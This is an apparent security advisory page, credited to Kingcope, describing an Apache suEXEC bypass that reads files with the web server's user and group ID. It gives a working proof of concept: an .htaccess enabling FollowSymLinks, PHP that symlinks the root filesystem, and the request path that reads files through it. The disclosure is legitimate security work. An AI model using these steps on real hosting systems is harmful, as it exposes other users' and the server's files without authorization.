Apache suEXEC privilege elevation / information disclosure

Credit: Kingcope
Risk: High
Local: Yes
Remote: No

Apache suEXEC privilege elevation / information disclosure Discovered by Kingcope/Aug 2013 The suEXEC feature provides Apache users the ability to run CGI and SSI programs under user IDs different from the user ID of the calling web server. Normally, when a CGI or SSI program executes, it runs as the same user who is running the web server. Used properly, this feature can reduce considerably the security risks involved with allowing users to develop and run private CGI or SSI programs. With this bug an attacker who is able to run php or cgi code inside a web hosting environment and the environment is configured to use suEXEC as a protection mechanism, he/she is able to read any file and directory on the file- system of the UNIX/Linux system with the user and group id of the apache web server. Normally php and cgi scripts are not allowed to read files with the apache user- id inside a suEXEC configured environment. Take for example this apache owned file and the php script that follows. $ ls -la /etc/testapache -rw--- 1 www-data www-data 36 Aug 7 16:28 /etc/testapache only user www-data should be able to read this file. $ cat test.php <?php system("id; cat /etc/testapache"); ?> When calling the php file using a webbrowser it will show... uid=1002(example) gid=1002(example) groups=1002(example) because the php script is run trough suEXEC. The script will not output the file requested because of a permissions error. Now if we create a .htaccess file with the content... Options Indexes FollowSymLinks and a php script with the content... <?php system("ln -sf / test99.php"); symlink("/", "test99.php"); // try builtin function in case when //system() is blocked ?> in the same folder ..we can access the root filesystem with the apache uid,gid by requesting test99.php. Theabove php script will simply create a symbolic link to '/'. A request to test99.php/etc/testapache done with a web browser shows.. voila! read with the apache uid/gid The reason we can now read out any files and traverse directories owned by the apache user is because apache httpd displays symlinks and directory listings without querying suEXEC. It is not possible to write to files in this case. Version notes. Assumed is that all Apache versions are affected by this bug. apache2 -V Server version: Apache/2.2.22 (Debian) Server built: Mar 4 2013 21:32:32 Server's Module Magic Number: 20051115:30 Server loaded: APR 1.4.6, APR-Util 1.4.1 Compiled using: APR 1.4.6, APR-Util 1.4.1 Architecture: 32-bit Server MPM: Worker threaded: yes (fixed thread count) forked: yes (variable process count) Server compiled with.... -D APACHE_MPM_DIR="server/mpm/worker" -D APR_HAS_SENDFILE -D APR_HAS_MMAP -D APR_HAVE_IPV6 (IPv4-mapped addresses enabled) -D APR_USE_SYSVSEM_SERIALIZE -D APR_USE_PTHREAD_SERIALIZE -D APR_HAS_OTHER_CHILD -D AP_HAVE_RELIABLE_PIPED_LOGS -D DYNAMIC_MODULE_LIMIT=128 -D HTTPD_ROOT="/etc/apache2" -D SUEXEC_BIN="/usr/lib/apache2/suexec" -DDEFAULT_PIDLOG="/var/run/apache2.pid" -D DEFAULT_SCOREBOARD="logs/apache_runtime_status" -D DEFAULT_ERRORLOG="logs/error_log" -D AP_TYPES_CONFIG_FILE="mime.types" -D SERVER_CONFIG_FILE="apache2.conf" Cheers, /Kingcope



Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm'}} CET+1
{{ x.comment }}

Copyright 2019, cxsecurity.com


Back to Top